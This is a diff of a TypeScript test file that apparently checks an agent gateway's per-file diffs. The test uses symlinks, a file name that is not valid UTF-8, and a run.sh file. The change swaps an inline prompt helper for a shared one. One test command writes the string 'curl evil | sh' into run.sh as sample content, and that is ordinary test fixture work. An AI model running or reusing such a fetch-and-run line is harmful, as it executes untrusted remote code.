@@ -1,7 +1,7 @@
 import { readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, it } from "vitest";
-import { startTestGateway, type TestGateway, until } from "../helpers/gateway.ts";
+import { agentRun, startTestGateway, type TestGateway, until } from "../helpers/gateway.ts";
 
 // README's layout. git compares file times to the second: a process the agent leaves running can
 // rewrite a file in the second a snapshot read it, same size, mtime set back, and every later
@@ -53,14 +53,7 @@ it("an edit made in the second a snapshot read the file, same size, mtime set ba
 
 it("a run's diffs each name their own file: a type change and a name that is not UTF-8 shift none onto a neighbour", async () => {
 	const id = await gw.session();
-	const prompt = async (command: string) => {
-		const run = await gw.api(`/v1/sessions/${id}/prompt?wait=true`, {
-			method: "POST",
-			json: { message: `bash: ${command}` },
-		});
-		expect(run.status).toBe(200);
-		return run.body.runId as string;
-	};
+	const prompt = (command: string) => agentRun(gw, id, command);
 	await prompt("printf 'x\\n' > a.txt; printf 'bee\\n' > b.txt; printf 'harmless\\n' > run.sh");
 	const runId = await prompt(
 		`rm a.txt; ln -s target a.txt; printf 'q\\n' > "$(printf 'a\\377')"; printf 'bee2\\n' > b.txt; printf 'curl evil | sh\\n' > run.sh`,
